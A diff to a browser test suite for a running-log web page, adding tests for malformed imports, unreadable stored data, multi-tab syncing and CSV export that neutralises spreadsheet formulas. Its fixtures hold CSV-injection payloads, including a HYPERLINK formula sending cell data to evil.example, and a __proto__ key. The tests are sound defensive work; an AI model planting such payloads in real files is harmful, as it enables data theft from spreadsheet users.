@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -9,7 +11,8 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.browser.pages import PAGES, VIEWPORTS, Visit
+from tests.browser.pages import PAGES, VIEWPORTS, Visit, screenshot
+from tests.site.built import PROJECT
 
 pytestmark = pytest.mark.browser
 
@@ -109,6 +112,14 @@ MALFORMED = {
     "open-quote.csv": (f'{CSV_HEADER}\r\n2025-07-20,,,170,5,"never closed\r\n'.encode(), "a quoted field is never closed"),
     "spreadsheet.xlsx.csv": (b"PK\x03\x04\x14\x00\x06\x00", "it is not a Stride Prep log: the first line must be "
                              + CSV_HEADER),
+    # A value is quoted in a message at most 40 characters long, and whatever its type.
+    "long-date.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "' + b"2" * 10_000 + b'"}]}',
+                       'entry 1: the date must be a day written like 2025-07-19, not "' + "2" * 40 + '…"'),
+    "object-date.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": {"toString": 1}}]}',
+                         'entry 1: the date must be a day written like 2025-07-19, not "{"toString":1}"'),
+    "long-field.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "2025-07-20", "'
+                        + b"p" * 5000 + b'": 1}]}', 'entry 1: "' + "p" * 40 + '…" is not a field of the log'),
+    "huge.csv": (b" " * (5 * 1024 * 1024 + 1), "it is over 5 MB, the most this page imports"),
 }
 
 
@@ -133,3 +144,157 @@ def test_the_log_form_is_not_there_without_javascript(visit: Callable[..., Visit
     page = visit(LOG, PHONE, java_script_enabled=False).page
     assert page.locator("form, .entries").count() == 0
     expect(page.locator("table.log")).to_be_visible()
+
+
+def log_file(*entries: dict[str, object]) -> bytes:
+    return json.dumps({"format": "stride-prep-log", "version": 1, "entries": entries}).encode()
+
+
+# Cells a spreadsheet would run as a formula (OWASP, CSV injection), and cells that already
+# start with apostrophes, which must come back as they were too.
+FORMULAS = log_file(
+    {"date": "2025-07-01", "routine": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "stride": "-3 steps",
+     "notes": "+44 1234"},
+    {"date": "2025-07-02", "routine": "@SUM(1+1)", "stride": "'=quoted already", "notes": "\t=1+1"},
+    {"date": "2025-07-03", "routine": "'plain apostrophe", "stride": "''-2", "cadence": 170, "effort": 5,
+     "notes": "\r=1+1\r\nline"},
+)
+NEUTRALISED = [
+    CSV_HEADER,
+    "2025-07-03,'plain apostrophe,'''-2,170,5,\"'\r=1+1\r\nline\"",
+    "2025-07-02,'@SUM(1+1),''=quoted already,,,'\t=1+1",
+    '2025-07-01,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",\'-3 steps,,,\'+44 1234',
+]
+
+
+def test_csv_cells_never_start_a_formula_and_import_back_unchanged(visit: Callable[..., Visit], tmp_path: Path) -> None:
+    page = visit(LOG, PHONE).page
+    import_file(page, "formulas.json", FORMULAS)
+    expect(page.locator(".log-status")).to_contain_text("Imported 3 entries")
+    before = stored(page)
+    text = export(page, "CSV", tmp_path).decode("utf-8")
+    assert text == "\r\n".join(NEUTRALISED) + "\r\n"
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    page.evaluate("() => localStorage.clear()")
+    page.reload()
+    import_file(page, "stride-prep-log.csv", text.encode())
+    expect(page.locator(".log-status")).to_contain_text("Imported 3 entries")
+    assert stored(page) == before
+    expect(page.locator(".entries li").last).to_contain_text('=HYPERLINK("https://evil.example/?"&A1,"Click")')
+
+
+def test_a_csv_of_an_older_export_imports_its_cells_as_they_are(visit: Callable[..., Visit]) -> None:
+    page = visit(LOG, PHONE).page
+    import_file(page, "old.csv", f"{CSV_HEADER}\r\n2025-07-20,=1+1,-2,170,5,'x\r\n".encode())
+    expect(page.locator(".log-status")).to_contain_text("Imported 1 entry")
+    assert json.loads(stored(page) or "")[0] == {"date": "2025-07-20", "routine": "=1+1", "stride": "-2",
+                                                  "cadence": 170, "effort": 5, "notes": "'x"}
+
+
+# What an old version, another tab or an extension may leave under the log's key, and why it cannot be read.
+UNREADABLE = {
+    "not JSON": ("[{oops", "it is not valid JSON"),
+    "a number": ("5", "it is not a list of entries"),
+    "null": ("null", "it is not a list of entries"),
+    "an object": ('{"entries": []}', "it is not a list of entries"),
+    "huge text": ('"' + "x" * 1_000_000 + '"', "it is not a list of entries"),
+    "wrong items": ('[{"date": "2025-07-19"}, 5]', "entry 2: it is not an entry"),
+    "a huge list": ("[" + ",".join(['{"date": "2025-07-19"}'] * 50_000) + ", null]", "entry 50001: it is not an entry"),
+    "a newer version": ('[{"date": "2025-07-19", "pace": "5:10"}]', 'entry 1: "pace" is not a field of the log'),
+    "prototype": ('[{"date": "2025-07-19", "__proto__": {"notes": "x"}}]', 'entry 1: "__proto__" is not a field of the log'),
+}
+
+
+def unreadable_message(reason: str) -> str:
+    return (f"The log kept in this browser could not be read: {reason}. It is left as it was: nothing is added"
+            " to it or written over it. Save it as a file to start a new log.")
+
+
+def plant_log(visit: Callable[..., Visit], value: str) -> tuple[Visit, list[str]]:
+    loaded = visit(LOG, PHONE)
+    errors: list[str] = []
+    loaded.page.on("pageerror", lambda error: errors.append(str(error)))
+    loaded.page.evaluate("([key, value]) => localStorage.setItem(key, value)", [KEY, value])
+    loaded.page.reload()
+    return loaded, errors
+
+
+@pytest.mark.parametrize("name", UNREADABLE)
+def test_an_unreadable_log_is_kept_untouched_and_the_page_says_so(visit: Callable[..., Visit], name: str,
+                                                                  tmp_path: Path) -> None:
+    value, reason = UNREADABLE[name]
+    loaded, errors = plant_log(visit, value)
+    page = loaded.page
+    status = page.locator(".log-status")
+    # Said where the entries would be, not "No entries yet."
+    expect(page.locator(".log-empty")).to_have_text(unreadable_message(reason))
+    assert dates_shown(page) == []
+    # Neither a new entry nor an import writes over it, and an export does not pass an empty log for it.
+    page.fill("#log-date", "2025-07-20")
+    page.get_by_role("button", name="Add to the log").click()
+    expect(status).to_have_text(unreadable_message(reason))
+    page.evaluate("() => { document.querySelector('.log-status').textContent = ''; }")
+    import_file(page, "formulas.json", FORMULAS)
+    expect(status).to_have_text(unreadable_message(reason))
+    page.evaluate("() => { document.querySelector('.log-status').textContent = ''; }")
+    page.get_by_role("button", name="Export CSV").click()
+    expect(status).to_have_text(unreadable_message(reason))
+    page.reload()
+    assert stored(page) == value
+    expect(page.locator(".log-empty")).to_have_text(unreadable_message(reason))
+    assert errors == []
+    if name == "not JSON":
+        screenshot(loaded, "log-unreadable")
+    # Saved as a file, it is set aside (kept in this browser too, never read) and a new log begins.
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Save it as a file and start a new log").click()
+    assert download.value.suggested_filename == "stride-prep-log-unreadable.txt"
+    download.value.save_as(tmp_path / "saved.txt")
+    assert (tmp_path / "saved.txt").read_text(encoding="utf-8") == value
+    expect(status).to_have_text("Saved the unreadable log as stride-prep-log-unreadable.txt; a copy stays in this"
+                                " browser too. This is a new log.")
+    expect(page.get_by_role("button", name="Save it as a file and start a new log")).to_be_hidden()
+    kept = page.evaluate("() => Object.keys(localStorage).filter((name) => name.startsWith('stride1:log:'))")
+    assert len(kept) == 1 and page.evaluate("(name) => localStorage.getItem(name)", kept[0]) == value
+    assert stored(page) is None
+    expect(page.locator(".log-empty")).to_have_text("No entries yet.")
+    add_entry(page, "2025-07-20")
+    assert dates_shown(page) == ["2025-07-20"]
+    assert errors == []
+
+
+def test_a_log_made_readable_in_another_tab_is_shown(visit: Callable[..., Visit], origin: str) -> None:
+    loaded, errors = plant_log(visit, "5")
+    other = loaded.page.context.new_page()
+    other.goto(origin + LOG)
+    other.evaluate("([key]) => localStorage.setItem(key, '[{\"date\": \"2025-07-18\"}]')", [KEY])
+    expect(loaded.page.locator(".entries li strong")).to_have_text(["2025-07-18"])
+    expect(loaded.page.get_by_role("button", name="Save it as a file and start a new log")).to_be_hidden()
+    expect(loaded.page.locator(".log-empty")).to_be_hidden()
+    assert errors == []
+
+
+def test_entries_added_in_two_tabs_are_all_kept(logged: Page, origin: str) -> None:
+    other = logged.context.new_page()
+    other.goto(origin + LOG)
+    add_entry(other, "2025-07-21")
+    # The other tab's entry shows here at once, and an entry added here does not write it away.
+    expect(logged.locator(".entries li strong")).to_have_text(["2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"])
+    add_entry(logged, "2025-07-22")
+    expect(other.locator(".entries li strong")).to_have_text(
+        ["2025-07-22", "2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"])
+    assert [entry["date"] for entry in json.loads(stored(logged) or "")] == [
+        "2025-07-22", "2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"]
+    other.get_by_role("button", name="Delete the entry of 2025-07-15").click()
+    expect(logged.locator(".entries li strong")).to_have_text(["2025-07-22", "2025-07-21", "2025-07-19", "2025-07-12"])
+    logged.get_by_role("button", name="Delete the entry of 2025-07-21").click()
+    assert [entry["date"] for entry in json.loads(stored(other) or "")] == ["2025-07-22", "2025-07-19", "2025-07-12"]
+
+
+def test_the_trend_is_drawn_with_no_markup_from_the_scripts(logged: Page) -> None:
+    points = logged.locator(".trend polyline").first.get_attribute("points") or ""
+    assert len(points.split()) == 3
+    for script in ("log.js", "routine.js", "site.js"):
+        source = (PROJECT / "assets" / "js" / script).read_text(encoding="utf-8")
+        assert "innerHTML" not in source and "insertAdjacentHTML" not in source, f"{script} writes markup"
